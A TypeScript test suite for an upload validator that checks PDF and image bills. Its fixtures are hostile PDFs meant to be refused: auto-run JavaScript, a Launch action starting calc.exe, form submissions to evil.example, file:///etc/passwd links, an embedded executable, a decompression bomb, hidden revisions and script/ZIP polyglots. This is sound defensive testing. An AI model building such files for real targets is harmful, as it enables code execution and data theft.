import { createHash } from 'node:crypto';
import { mkdtemp, open, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { closeDocumentWorkers, documentLimit, inspectDocument } from './documents.ts';
import { closePictureWorkers } from '#platform/pictures/pictures.ts';

let folder: string;

beforeAll(async () => {
  folder = await mkdtemp(path.join(tmpdir(), 'documents-'));
});
afterAll(async () => {
  await Promise.all([closeDocumentWorkers(), closePictureWorkers()]);
  await rm(folder, { recursive: true, force: true });
});

async function fileOf(bytes: Uint8Array | string): Promise<string> {
  const file = path.join(folder, crypto.randomUUID());
  await writeFile(file, bytes);
  return file;
}

interface Parts {
  pages?: number;
  /** Further entries of the catalogue. */
  catalogue?: string;
  /** Further entries of the first page. */
  page?: string;
  /** Further objects, numbered from 10. */
  objects?: (string | Buffer)[];
  trailer?: string;
  text?: string;
}

/** A bill, written by hand: catalogue 1, page tree 2, content 3, font 4, further objects from 10, pages from 100. */
function pdf({ pages = 2, catalogue = '', page = '', objects = [], trailer = '', text = 'Bill' }: Parts = {}): Buffer {
  const pageNumbers = Array.from({ length: pages }, (_, at) => 100 + at);
  const all = new Map<number, string | Buffer>([
    [1, `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`],
    [2, `<< /Type /Pages /Count ${pages} /Kids [${pageNumbers.map((number) => `${number} 0 R`).join(' ')}] >>`],
    [3, packed(`BT /F1 24 Tf 72 700 Td (${text}) Tj ET`)],
    [4, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'],
    ...objects.map((object, at): [number, string | Buffer] => [10 + at, object]),
    ...pageNumbers.map((number, at): [number, string] => [
      number,
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R /Resources << /Font << /F1 4 0 R >> >> ${at === 0 ? page : ''} >>`,
    ]),
  ]);
  let file = Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1');
  let table = `xref\n0 1\n0000000000 65535 f \n`;
  for (const [number, object] of all) {
    table += `${number} 1\n${String(file.length).padStart(10, '0')} 00000 n \n`;
    const body = typeof object === 'string' ? Buffer.from(object, 'latin1') : object;
    file = Buffer.concat([file, Buffer.from(`${number} 0 obj\n`), body, Buffer.from('\nendobj\n')]);
  }
  const end = `${table}trailer\n<< /Size 1000 /Root 1 0 R ${trailer} >>\nstartxref\n${file.length}\n%%EOF\n`;
  return Buffer.concat([file, Buffer.from(end)]);
}

function packed(content: string, dictionary = '/Filter /FlateDecode', data: Buffer = deflateSync(content)): Buffer {
  return Buffer.concat([
    Buffer.from(`<< /Length ${data.length} ${dictionary} >>\nstream\n`),
    data,
    Buffer.from('\nendstream'),
  ]);
}

test('an accepted document is a PDF, with its pages counted', async () => {
  expect(await inspectDocument(await fileOf(pdf({ pages: 2 })), 'bill.pdf')).toEqual({
    mediaType: 'application/pdf',
    pages: 2,
  });
  expect(await inspectDocument(await fileOf(pdf({ pages: 50 })))).toMatchObject({ pages: 50 });
});

test('an accepted document may mention launching and scripts, and use names with the same beginning', async () => {
  const honest = pdf({
    text: 'Launch party, JavaScript course',
    objects: ['<< /LaunchSans 4 0 R /EncryptMetadata false /constructor 1 /S /toString /F 3 >>'],
  });
  expect(await inspectDocument(await fileOf(honest))).toMatchObject({ pages: 2 });
});

test('an accepted document may open at one of its pages and have links to the web', async () => {
  const link = '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://seller.example/) >> >>';
  const base = { catalogue: '/URI << /Base (https://seller.example/) >>', page: `/Annots [${link}]` };
  expect(await inspectDocument(await fileOf(pdf(base)))).toMatchObject({ pages: 2 });
  const parts = { catalogue: '/OpenAction [100 0 R /Fit]', page: `/Annots [${link}]` };
  expect(await inspectDocument(await fileOf(pdf(parts)))).toMatchObject({ pages: 2 });
  const far = { catalogue: '/OpenAction 10 0 R', objects: ['11 0 R', '12 0 R', '[100 0 R /Fit]'] };
  expect(await inspectDocument(await fileOf(pdf(far)))).toMatchObject({ pages: 2 });
  const going = { catalogue: '/OpenAction << /S /GoTo /D [100 0 R /Fit] >>' };
  expect(await inspectDocument(await fileOf(pdf(going)))).toMatchObject({ pages: 2 });
});

test('an accepted document may be a photograph of a bill', async () => {
  const bill = sharp({ create: { width: 60, height: 90, channels: 3, background: '#ffffff' } });
  expect(await inspectDocument(await fileOf(await bill.jpeg().toBuffer()), 'bill.jpg')).toEqual({
    mediaType: 'image/jpeg',
    pages: 1,
  });
  expect(await inspectDocument(await fileOf(await bill.png().toBuffer()), 'bill.png')).toEqual({
    mediaType: 'image/png',
    pages: 1,
  });
});

async function refusalOf(bytes: Uint8Array | string, name = 'bill.pdf') {
  const error: unknown = await inspectDocument(await fileOf(bytes), name).then(
    () => undefined,
    (reason: unknown) => reason,
  );
  expect(error).toMatchObject({ name: 'UploadRefused' });
  return error;
}

test('a document is refused when it is empty', async () => {
  expect(await refusalOf('')).toMatchObject({ code: 'empty' });
});

test('a document is refused when it is larger than 15 MB', async () => {
  const file = await fileOf(pdf());
  const handle = await open(file, 'r+');
  await handle.truncate(documentLimit + 1);
  await handle.close();
  await expect(inspectDocument(file)).rejects.toMatchObject({
    code: 'too_large',
    message: 'This file is larger than 15 MB. Export a smaller version and upload it again.',
  });
});

test('a document is refused when it has more than 50 pages', async () => {
  expect(await refusalOf(pdf({ pages: 51 }))).toMatchObject({ code: 'too_many_pages' });
});

test('a document is refused when it is a ZIP archive named as a PDF', async () => {
  const zip = Buffer.concat([
    Buffer.from('PK\x03\x04\x14\0\0\0\0\0', 'latin1'),
    Buffer.alloc(20),
    Buffer.from('a.txt'),
  ]);
  expect(await refusalOf(zip)).toMatchObject({
    code: 'mislabelled',
    message:
      'This file is named .pdf but contains a ZIP archive. Save the document as a PDF, or take a photo of it as a JPEG or PNG, and upload that.',
  });
});

test('a document is refused when it is a picture of an unaccepted type', async () => {
  const webp = await sharp({ create: { width: 60, height: 90, channels: 3, background: '#fff' } })
    .webp()
    .toBuffer();
  expect(await refusalOf(webp, 'bill.webp')).toMatchObject({ code: 'unsupported_type' });
});

test('a document is refused when it is an incomplete picture', async () => {
  const jpeg = await sharp({ create: { width: 600, height: 900, channels: 3, background: '#fff' } })
    .jpeg()
    .toBuffer();
  expect(await refusalOf(jpeg.subarray(0, jpeg.length - 400), 'bill.jpg')).toMatchObject({ code: 'truncated' });
});

test('a document is refused when its end is missing', async () => {
  const whole = pdf();
  expect(await refusalOf(whole.subarray(0, whole.length - 300))).toMatchObject({ code: 'truncated' });
});

test('a document is refused when it only begins and ends like a PDF', async () => {
  expect(await refusalOf('%PDF-1.7\nnothing of the kind\n%%EOF\n')).toMatchObject({ code: 'unreadable' });
});

test('a document is refused when a page in its count is missing', async () => {
  const gap = pdf().toString('latin1').replace('/Kids [100 0 R 101 0 R]', '/Kids [100 0 R 999 0 R]');
  expect(await refusalOf(Buffer.from(gap, 'latin1'))).toMatchObject({ code: 'unreadable' });
});

test.each([
  ['when it is opened', { catalogue: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }],
  [
    'by name',
    { catalogue: '/Names << /JavaScript << /Names [(a) 10 0 R] >> >>', objects: ['<< /S /JavaScript /JS (1) >>'] },
  ],
  ['when a page is shown', { page: '/AA << /O << /S /Java#53cript /JS (app.alert\\(1\\)) >> >>' }],
])('a document is refused when it runs a script %s', async (_, parts) => {
  expect(await refusalOf(pdf(parts))).toMatchObject({
    code: 'active_content',
    message: 'This PDF contains a script. Print it to a new PDF and upload that.',
  });
});

test('a document is refused when it gives a key two values, of which readers take the first or the last', async () => {
  const catalogue = '/OpenAction << /S /URI /URI (https://a.example/) >> /OpenAction [3 0 R /Fit]';
  expect(await refusalOf(pdf({ catalogue }))).toMatchObject({ code: 'unreadable' });
});

test('a document is refused when it holds a form with scripts of the XFA kind', async () => {
  const form = pdf({ catalogue: '/AcroForm << /Fields [] /XFA 10 0 R >>', objects: [packed('<xdp:xdp/>')] });
  expect(await refusalOf(form)).toMatchObject({ code: 'active_content' });
});

const launch = '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (calc.exe) >> >>';

test.each([
  ['plainly', { page: '/Annots [10 0 R]', objects: [launch] }],
  ['in an escaped name', { page: '/Annots [10 0 R]', objects: [launch.replace('/Launch', '/#4caunc#68')] }],
  ['in a packed object', { objects: [packed(`20 0 ${launch}`, '/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode')] }],
  [
    'in an escaped name at the end of a packed object',
    { objects: [packed('20 0 /L#61unch', '/N 1 /First 5 /Filter /Fl')] },
  ],
])('a document is refused when it can start a program, written as %s', async (_, parts) => {
  expect(await refusalOf(pdf(parts))).toMatchObject({
    code: 'active_content',
    message: 'This PDF can start another program. Print it to a new PDF and upload that.',
  });
});

test('a document is refused when a packed object is so wide that a name crosses two pieces', async () => {
  for (const before of [65_530, 65_533, 65_536]) {
    expect(await refusalOf(pdf({ objects: [packed(`${' '.repeat(before)}/Launch `)] }))).toMatchObject({
      code: 'active_content',
    });
  }
});

test('a document is refused when it packs objects in an unsupported way', async () => {
  const hidden = packed(
    '',
    '/Type /Obj#53tm /N 1 /First 5 /Filter [/ASCIIHexDecode /FlateDecode]',
    Buffer.from('789c>'),
  );
  expect(await refusalOf(pdf({ objects: [hidden] }))).toMatchObject({ code: 'unreadable' });
});

test('a document is refused when packed data is damaged', async () => {
  const damaged = deflateSync('BT (a) Tj ET'.repeat(50));
  damaged.writeUInt8(0x07, 2); // a kind of block that does not exist
  expect(await refusalOf(pdf({ objects: [packed('', '/Filter /FlateDecode', damaged)] }))).toMatchObject({
    code: 'unreadable',
  });
});

test('a document is refused when it unpacks to an excessive size', async () => {
  const bomb = deflateSync(Buffer.alloc(130_000_000), { level: 1 });
  const objects = [packed('', '/Filter /FlateDecode', bomb), packed('', '/Filter /FlateDecode', bomb)];
  expect(await refusalOf(pdf({ objects }))).toMatchObject({ code: 'unreadable' });
});

test.each([
  [
    'another file',
    {
      catalogue: '/Names << /EmbeddedFiles << /Names [(a.exe) 10 0 R] >> >>',
      objects: [
        '<< /Type /Filespec /F (a.exe) /EF << /F 11 0 R >> >>',
        packed('MZ', '/Type /EmbeddedFile /Filter /FlateDecode'),
      ],
    },
  ],
  ['another file that nothing refers to', { objects: [packed('MZ', '/Type /Embedded#46ile /Filter /FlateDecode')] }],
  ['embedded media', { page: '/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]' }],
])('a document is refused when it carries %s', async (_, parts) => {
  expect(await refusalOf(pdf(parts))).toMatchObject({ code: 'active_content' });
});

const annotation = (action: string) => `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>`;
const onOpen = (action: string): Parts => ({ catalogue: `/OpenAction ${action}` });
const doings: [string, Parts][] = [
  ['SubmitForm', onOpen('<< /S /SubmitForm /F (https://evil.example/) >>')],
  ['GoToR', onOpen('<< /S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) /D [0 /Fit] >>')],
  ['GoToE', onOpen('<< /S /GoToE /D [0 /Fit] /T << /R /C /N (a.pdf) >> >>')],
  ['ImportData', onOpen('<< /S /ImportData /F (a.fdf) >>')],
  ['Thread', onOpen('<< /S /Thread /F (https://evil.example/a.pdf) /D 0 >>')],
  ['URI', onOpen('<< /S /URI /URI (https://evil.example/) >>')],
  ['Named', onOpen('<< /S /Named /N /Print >>')],
  ['a rendition', onOpen('<< /S /Rendition /OP 0 /R << /S /MR >> >>')],
  ['what follows a harmless action', onOpen('<< /S /GoTo /D [100 0 R /Fit] /Next << /S /URI /URI (http://a) >> >>')],
  ['an action that stands elsewhere', { ...onOpen('10 0 R'), objects: ['<< /S /URI /URI (http://a) >>'] }],
  ['an action with its kind elsewhere', { ...onOpen('<< /S 10 0 R /URI (http://a) >>'), objects: ['/URI'] }],
  ['an action with escaped names', { catalogue: '/Open#41ction << /#53 /#55RI /URI (http://a) >>' }],
  ['an action with names escaped in small letters', { catalogue: '/Open#41ction << /S /Submit#46or#6d >>' }],
  ['an action of the whole document', { catalogue: '/AA << /WC << /S /URI /URI (http://a) >> >>' }],
  ['an action of a page', { page: '/AA << /O << /S /URI /URI (http://a) >> >>' }],
  ['a link that sends', { page: `/Annots [${annotation('<< /S /SubmitForm /F (https://evil.example/) >>')}]` }],
  ['a link to a file', { page: `/Annots [${annotation('<< /S /URI /URI (file://evil.example/a) >>')}]` }],
  ['a link that is a script', { page: `/Annots [${annotation('<< /S /URI /URI (java\\163cript:1) >>')}]` }],
  ['an action two references away', { ...onOpen('10 0 R'), objects: ['11 0 R', '<< /S /URI /URI (http://a) >>'] }],
  ['an action with its kind two references away', { objects: ['<< /S 11 0 R >>', '12 0 R', '/Submit#46or#6d'] }],
  [
    'what follows an action two references away',
    { ...onOpen('10 0 R'), objects: ['11 0 R', '<< /S /GoTo /D [100 0 R /Fit] /Next 13 0 R >>'] },
  ],
  [
    'a link to a file two references away',
    { objects: ['<< /S /URI /URI 11 0 R >>', '12 0 R', '(file:///etc/passwd)'] },
  ],
  ['a link to another machine', { page: `/Annots [${annotation('<< /S /URI /URI (\\\\\\\\host\\\\share) >>')}]` }],
  ['a link to another machine in a web form', { page: `/Annots [${annotation('<< /S /URI /URI (//host/share) >>')}]` }],
  ['a link with a split scheme', { page: `/Annots [${annotation('<< /S /URI /URI (fi\\tle:///etc/passwd) >>')}]` }],
  ['links that begin in a folder', { catalogue: '/URI << /Base (file:///c:/) >>' }],
  ['a page of another file', { objects: [packed('', '/Subtype /Form /Ref << /F 11 0 R /Page 0 >>', Buffer.of())] }],
  ['a picture of another file', { objects: [packed('', '/Subtype /Image /OPI << /2.0 12 0 R >>', Buffer.of())] }],
  ['a thread of another file', { objects: ['<< /Type /Bead /Thread << /F (a.pdf) >> >>'] }],
  ['the name of another file', { objects: ['<< /Type /Filespec /UF (a.pdf) >>'] }],
  ['a program as a picture', { objects: [packed('', '/Type /XObject /Subtype /PS', Buffer.of())] }],
  ['a program in a form', { objects: [packed('', '/Type /XObject /Subtype /Form /Subtype2 /PS', Buffer.of())] }],
  ['an attachment on a page', { page: '/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] >>]' }],
  ['a movie', { page: '/Annots [<< /Subtype /Movie /Rect [0 0 9 9] >>]' }],
  ['a portfolio', { catalogue: '/Collection << /View /T >>' }],
  ['a stream from elsewhere', { objects: ['<< /Length 0 /F (https://evil.example/) >>\nstream\n\nendstream'] }],
  ['an action that nothing refers to', { objects: ['<< /S /SubmitForm /F (https://evil.example/) >>'] }],
  [
    'an action in a packed object',
    {
      ...onOpen('20 0 R'),
      objects: [packed('20 0 << /S /URI /URI (http://a) >>', '/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode')],
    },
  ],
];

test.each(doings)('a document is refused when it acts by itself or on others: %s', async (_, parts) => {
  expect(await refusalOf(pdf(parts))).toMatchObject({ code: 'active_content' });
});

test('a document is refused when a later revision adds an action, or hides one of an earlier revision', async () => {
  const acts = (start: number) =>
    `1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (http://a) >> >>\nendobj\nxref\n1 1\n${String(start).padStart(10, '0')} 00000 n \n`;
  const rests = '1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n';
  const revised = (whole: Buffer, addition: string) =>
    Buffer.concat([
      whole,
      Buffer.from(
        `${addition}trailer\n<< /Size 1000 /Root 1 0 R >>\nstartxref\n${whole.length + addition.indexOf('xref')}\n%%EOF\n`,
      ),
    ]);
  const adding = revised(pdf(), acts(pdf().length));
  expect(await refusalOf(adding)).toMatchObject({ code: 'active_content' });
  expect(
    await refusalOf(revised(adding, `${rests}xref\n1 1\n${String(adding.length).padStart(10, '0')} 00000 n \n`)),
  ).toMatchObject({ code: 'active_content' });
  const honest = revised(pdf(), `${rests}xref\n1 1\n${String(pdf().length).padStart(10, '0')} 00000 n \n`);
  expect(await inspectDocument(await fileOf(honest))).toMatchObject({ pages: 2 });
});

const acting = '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (http://a) >> >>';

/** A PDF followed by another revision, which readers start with. */
function revised(whole: Buffer, addition: string, { root = '1 0 R', startxref = -1, more = '' } = {}): Buffer {
  const table = `${addition}xref\n0 0\ntrailer\n<< /Size 1000 /Root ${root} ${more} >>\n`;
  const from = startxref >= 0 ? startxref : whole.length + table.indexOf('xref');
  return Buffer.concat([whole, Buffer.from(`${table}startxref\n${from}\n%%EOF\n`, 'latin1')]);
}

test('a document is refused when the catalogue is inside a trailer and has an action, in any revision', async () => {
  const direct = revised(pdf(), '', { root: acting });
  expect(await refusalOf(direct)).toMatchObject({ code: 'active_content' });
  expect(await refusalOf(revised(direct, ''))).toMatchObject({ code: 'active_content' });
  const harmless = '<< /Type /Catalog /Pages 2 0 R >>';
  const honest = pdf().toString('latin1').replace('/Root 1 0 R', `/Root ${harmless}`);
  expect(await inspectDocument(await fileOf(Buffer.from(honest, 'latin1')))).toMatchObject({ pages: 2 });
});

/** A cross-reference table as a stream, whose dictionary is the trailer. */
const tableStream = (root: string) =>
  packed('\0'.repeat(8), `/Type /XRef /Size 2 /Index [0 2] /W [1 2 1] /Root ${root} /Filter /FlateDecode`);

test('a document is refused when an action is in the dictionary of a cross-reference stream alone', async () => {
  expect(await refusalOf(pdf({ objects: [tableStream(acting)] }))).toMatchObject({ code: 'active_content' });
  expect(await inspectDocument(await fileOf(pdf({ objects: [tableStream('1 0 R')] })))).toMatchObject({ pages: 2 });
});

test('a document is refused when objects or a trailer are hidden where parsers do not look', async () => {
  for (const hidden of [
    `1 0 obj\n${acting}\nendobj\n`,
    `1 0 % a comment\n obj ${acting}\n`,
    `trailer\n<< /Size 1000 /Root ${acting} >>\n`,
  ]) {
    const stream = Buffer.from(`<< /Length ${hidden.length} >>\nstream\n${hidden}\nendstream`, 'latin1');
    const whole = pdf({ objects: [stream] });
    const startxref = whole.indexOf(hidden);
    expect(await refusalOf(revised(whole, '', { startxref }))).toMatchObject({ code: 'unreadable' });
  }
  for (const hidden of [`1 0 obj ${acting} endobj`, `trailer << /Size 1000 /Root ${acting} >>`]) {
    const startxref = pdf().length + 1;
    expect(await refusalOf(revised(pdf(), `%${hidden}\n`, { startxref }))).toMatchObject({ code: 'unreadable' });
  }
  const honest = pdf({ text: 'Lot 1 0 objects, trailer, 5 objets' });
  expect(await inspectDocument(await fileOf(honest))).toMatchObject({ pages: 2 });
});

test('a document is refused when readers could unpack different objects from those checked', async () => {
  const content = '20 0 << /S /URI /URI (http://a) >>';
  const kindLater = pdf({
    ...onOpen('20 0 R'),
    objects: [packed(content, '/Type 11 0 R /N 1 /First 5 /Filter /FlateDecode'), '/ObjStm'],
  });
  expect(await refusalOf(kindLater)).toMatchObject({ code: 'unreadable' });
  const none = packed(content, '/Type /ObjStm /N 10 0 R /First 5 /Filter /FlateDecode');
  const moreLater = revised(pdf({ ...onOpen('20 0 R'), objects: ['0', none] }), '10 0 obj\n1\nendobj\n');
  expect(await refusalOf(moreLater)).toMatchObject({ code: 'unreadable' });
});

test('a document is refused when one object is defined very many times, but not when a document was revised often', async () => {
  const revisions = (count: number) => {
    let whole = pdf();
    for (let number = 0; number < count; number += 1) {
      const object = `3 0 obj\n<< /Length 2 >>\nstream\nBT\nendstream\nendobj\n`;
      const place = String(whole.length).padStart(10, '0');
      const addition = `${object}xref\n3 1\n${place} 00000 n \ntrailer\n<< /Size 1000 /Root 1 0 R >>\n`;
      const startxref = whole.length + object.length;
      whole = Buffer.concat([whole, Buffer.from(`${addition}startxref\n${startxref}\n%%EOF\n`)]);
    }
    return whole;
  };
  expect(await inspectDocument(await fileOf(revisions(200)))).toMatchObject({ pages: 2 });
  expect(await refusalOf(revisions(501))).toMatchObject({ code: 'unreadable' });
});

test.each([
  ['nested very deep', '['.repeat(12_000) + ']'.repeat(12_000)],
  ['spaced very far apart', `[1${' '.repeat(9_000_000)}2]`],
])('a document is refused or accepted, without a server error, when its objects are %s', async (_, object) => {
  const error: unknown = await inspectDocument(await fileOf(pdf({ objects: [object] }))).catch(
    (reason: unknown) => reason,
  );
  expect([{ mediaType: 'application/pdf', pages: 2 }, expect.objectContaining({ code: 'unreadable' })]).toContainEqual(
    error,
  );
});

test('a document is refused when references lead to an excessive number of values', async () => {
  const again = '9 0 obj\n/URL\nendobj\n'.repeat(450);
  const many = Array.from({ length: 1000 }, () => '<< /S 9 0 R >>').join(' ');
  expect(await refusalOf(revised(pdf({ objects: [`[${many}]`] }), again))).toMatchObject({ code: 'unreadable' });
  const few = revised(pdf({ objects: [`[${many}]`] }), '9 0 obj\n/D\nendobj\n');
  expect(await inspectDocument(await fileOf(few))).toMatchObject({ pages: 2 });
});

test.each([
  ['a web page in its head', pdf().toString('latin1').replace('%\xe2', '%<script src=a></script>\n%\xe2')],
  ['something after its end', `${pdf().toString('latin1')}<script>alert(1)</script>\n`],
  ['a ZIP archive', `${pdf().toString('latin1')}PK\x05\x06${'\0'.repeat(16)}\x06\0%%EOF\n`],
])('a document is refused when it contains %s', async (_, bytes) => {
  expect(await refusalOf(Buffer.from(bytes, 'latin1'))).toMatchObject({ code: 'polyglot' });
});

test('a document is refused when data precedes its header', async () => {
  const page = Buffer.concat([Buffer.from('<html><script>alert(1)</script>\n'), pdf()]);
  expect(await refusalOf(page)).toMatchObject({ code: 'mislabelled' });
  expect(await refusalOf(page, 'bill')).toMatchObject({ code: 'unsupported_type' });
});

test('a document is refused when a picture is also a web page or an archive', async () => {
  const picture = await sharp({ create: { width: 60, height: 90, channels: 3, background: '#fff' } })
    .jpeg()
    .toBuffer();
  const archive = Buffer.from(`PK\x05\x06${'\0'.repeat(18)}`, 'latin1');
  const comment = Buffer.from([0xff, 0xfe, 0x00, 0x12, ...Buffer.from('<script>alert(1)')]);
  const polyglots = [
    Buffer.concat([picture, Buffer.from('<html><script>alert(1)</script>')]),
    Buffer.concat([picture, archive]),
    Buffer.concat([picture.subarray(0, 2), comment, picture.subarray(2)]),
    Buffer.concat([
      picture.subarray(0, 2),
      Buffer.from([0xff, 0xfe, 0x00, 0x0a]),
      Buffer.from('%PDF-1.7'),
      picture.subarray(2),
    ]),
  ];
  for (const polyglot of polyglots) expect(await refusalOf(polyglot, 'bill.jpg')).toMatchObject({ code: 'polyglot' });
});

test('a document is refused when it is encrypted, with or without a password to open it', async () => {
  const id = createHash('md5').update('bill').digest('hex');
  const trailer = `/ID [<${id}> <${id}>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${'41'.repeat(32)}> /U <${'42'.repeat(32)}> >>`;
  expect(await refusalOf(pdf({ trailer }))).toMatchObject({
    code: 'encrypted',
    message:
      'This PDF is protected by a password or by restrictions. Print it to a new, unprotected PDF and upload that.',
  });
});
